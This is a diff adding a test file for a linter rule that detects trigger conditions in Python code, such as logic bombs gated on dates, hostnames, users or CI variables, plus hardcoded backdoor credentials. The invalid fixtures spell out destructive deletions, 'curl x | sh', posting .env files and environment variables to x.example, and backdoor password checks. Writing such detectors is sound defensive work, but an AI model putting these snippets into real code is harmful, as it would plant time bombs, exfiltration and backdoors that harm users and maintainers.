@@ -1,0 +1,163 @@
+import rule from '../../../src/core/rules/py/trigger-condition';
+import { ruleTester } from '../../ruleTester';
+
+ruleTester(rule, {
+  valid: [
+    "import datetime\nif datetime.date.today().year > 2024:\n    banner = 'new'",
+    "import os, subprocess\nshell = 'cmd' if os.name == 'nt' else 'sh'\nsubprocess.run([shell, '-c', 'echo hi'])",
+    'import time, os\nif time.time() - start > 5:\n    os.kill(pid, 9)',
+    "import random\nif random.random() < 0.5:\n    print('heads')",
+    "import sys, os\nif sys.platform == 'win32':\n    os.system('cls')\nelse:\n    os.system('clear')",
+    "import datetime\nstamp = datetime.datetime.now().strftime('%Y-%m-%d')\nprint(stamp)",
+    'import datetime, os\nif expires_at < datetime.datetime.now():\n    os.remove(cache_file)',
+    'import time, requests\nwhile time.time() < deadline:\n    requests.get(url)',
+    "import os\nif os.environ.get('DEBUG') == '1':\n    print('debug')",
+    "import sys, subprocess\nif sys.version_info >= (3, 11):\n    subprocess.run(['ls'])",
+    "if __name__ == '__main__':\n    import os\n    os.system('make')",
+    'import socket\nprint(socket.gethostname())',
+    "def check(mode):\n    if mode == 'production-mode':\n        return True\n    return False",
+    "import random, requests\nif random.random() < 0.1:\n    log.info('sampled')",
+    "import datetime, shutil\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    print('happy new year')",
+    "import os\nif os.environ.get('CI'):\n    print('in ci')",
+    {
+      code: "import os, subprocess\nif os.environ.get('CI'):\n    subprocess.run(['make', 'lint'])",
+      filename: 'tests/test_lint.py',
+    },
+    "import platform, subprocess\nif platform.system() == 'Darwin':\n    subprocess.run(['open', path])\nelse:\n    subprocess.run(['xdg-open', path])",
+    "import datetime\nif datetime.datetime.now().hour > 18:\n    greeting = 'evening'",
+  ],
+  invalid: [
+    {
+      code: "import datetime, shutil\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    shutil.rmtree('/srv/data')",
+      errors: [{ messageId: 'trigger', line: 2, column: 4, severity: 'high', category: 'trigger' }],
+    },
+    {
+      code: "from datetime import datetime\nimport os\nif datetime.now() >= datetime(2025, 12, 24):\n    os.system('rm -rf ~/projects')",
+      errors: [{ messageId: 'trigger', line: 3 }],
+    },
+    {
+      code: "import time, subprocess\nif time.time() > 1767225600:\n    subprocess.Popen(['sh', '-c', cmd])",
+      errors: [{ messageId: 'trigger', severity: 'high' }],
+    },
+    {
+      code: "import datetime, os\nif datetime.datetime.now().year >= 2026:\n    os.remove('model.bin')",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import datetime, requests\nif datetime.date.today().weekday() == 4:\n    requests.post('https://x.example', data=open('.env').read())",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import datetime, os\nnow = datetime.datetime.now()\ncutoff = datetime.datetime(2026, 3, 1)\nif now > cutoff:\n    os.system('shutdown now')",
+      errors: [{ messageId: 'trigger', line: 4 }],
+    },
+    {
+      code: "from datetime import date\nimport sys\ndef main():\n    if date.today() > date.fromisoformat('2026-06-01'):\n        sys.exit(0)\n    run()",
+      errors: [{ messageId: 'trigger', severity: 'medium' }],
+    },
+    {
+      code: "import time, shutil\ndef cleanup():\n    if time.time() < 1767225600:\n        return\n    shutil.rmtree('/var/lib/app')",
+      errors: [{ messageId: 'trigger', line: 3 }],
+    },
+    {
+      code: "import socket, os\nif socket.gethostname() == 'build-01':\n    os.system('curl x | sh')",
+      errors: [{ messageId: 'trigger', severity: 'high' }],
+    },
+    {
+      code: "import getpass, os\nif getpass.getuser() != 'alice':\n    os.remove('/etc/app.conf')",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import os, subprocess\nif os.getlogin() in ('root', 'admin'):\n    subprocess.call('id', shell=True)",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import socket, requests\nif socket.gethostname().startswith('prod-'):\n    requests.post(url, json=data)",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: 'import uuid, os\nif uuid.getnode() == 0x001122334455:\n    os.system(cmd)',
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import platform, os\nif platform.node() == 'ci-runner-7':\n    exec(open('x.py').read())",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import os, subprocess\nif os.environ.get('USER') == 'jenkins':\n    subprocess.run(cmd, shell=True)",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import os, subprocess\nif os.environ.get('CI'):\n    subprocess.run(['curl', 'https://x.example/c'])",
+      errors: [{ messageId: 'trigger', severity: 'medium' }],
+    },
+    {
+      code: "import os, requests\nif 'GITHUB_ACTIONS' in os.environ:\n    requests.post('https://x.example/t', data=dict(os.environ))",
+      errors: [{ messageId: 'trigger', severity: 'medium' }],
+    },
+    {
+      code: "import os, shutil\nif os.getenv('CI') == 'true':\n    shutil.rmtree('build')",
+      errors: [{ messageId: 'trigger', severity: 'medium' }],
+    },
+    {
+      code: "import sys, subprocess\nif sys.platform == 'linux':\n    subprocess.run(['crontab', 'job.txt'])",
+      errors: [{ messageId: 'trigger', severity: 'low' }],
+    },
+    {
+      code: 'import random\nif random.random() < 0.001:\n    exec(payload)',
+      errors: [{ messageId: 'trigger', severity: 'high' }],
+    },
+    {
+      code: "import random, os\nif random.randint(1, 1000) == 7:\n    os.system('rm -rf /tmp/cache')",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import random, requests\nif random.random() < 0.01:\n    requests.post('https://x.example', data=secrets)",
+      errors: [{ messageId: 'trigger', severity: 'medium' }],
+    },
+    {
+      code: "def check_token(token):\n    if token == 'letmein-8f3a9c':\n        return True\n    return verify(token)",
+      errors: [{ messageId: 'trigger', line: 2, severity: 'high' }],
+    },
+    {
+      code: "from flask import request\ndef view():\n    if request.headers.get('X-Debug') == 'dbg-7f3a9c2e':\n        return True\n    return False",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "def is_valid(user, password):\n    if user == 'admin' and password == 'Sup3rS3cret2024':\n        return True\n    return check_db(user, password)",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import hmac\ndef authenticate(key):\n    if hmac.compare_digest(key, 'master-key-0042'):\n        return True\n    return lookup(key)",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import os, subprocess\ndef handler(event):\n    if event['cmd_key'] == 'run-9f8e7d6c':\n        subprocess.run(event['cmd'], shell=True)",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import datetime, os\nx = os.system('x') if datetime.date.today() > datetime.date(2027, 1, 1) else 0",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import socket, os\nsocket.gethostname() == 'box-1' and os.system('id')",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import datetime, os\ndef payload():\n    os.system('rm -rf ~')\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    payload()",
+      errors: [{ messageId: 'trigger', line: 4 }],
+    },
+    {
+      code: "import datetime, os\nif x:\n    pass\nelif datetime.date.today() > datetime.date(2026, 1, 1):\n    os.unlink('a')",
+      errors: [{ messageId: 'trigger', line: 4 }],
+    },
+    {
+      code: "import datetime\nif datetime.date.today() > datetime.date(2026, 1, 1):\n    with open('/etc/hosts', 'a') as f:\n        f.write('1.2.3.4 x')",
+      errors: [{ messageId: 'trigger' }],
+    },
+    {
+      code: "import datetime as dt, os\nif dt.datetime.now() > dt.datetime(2026, 1, 1):\n    key = os.environ['AWS_SECRET_ACCESS_KEY']",
+      errors: [{ messageId: 'trigger', severity: 'medium' }],
+    },
+  ],
+});
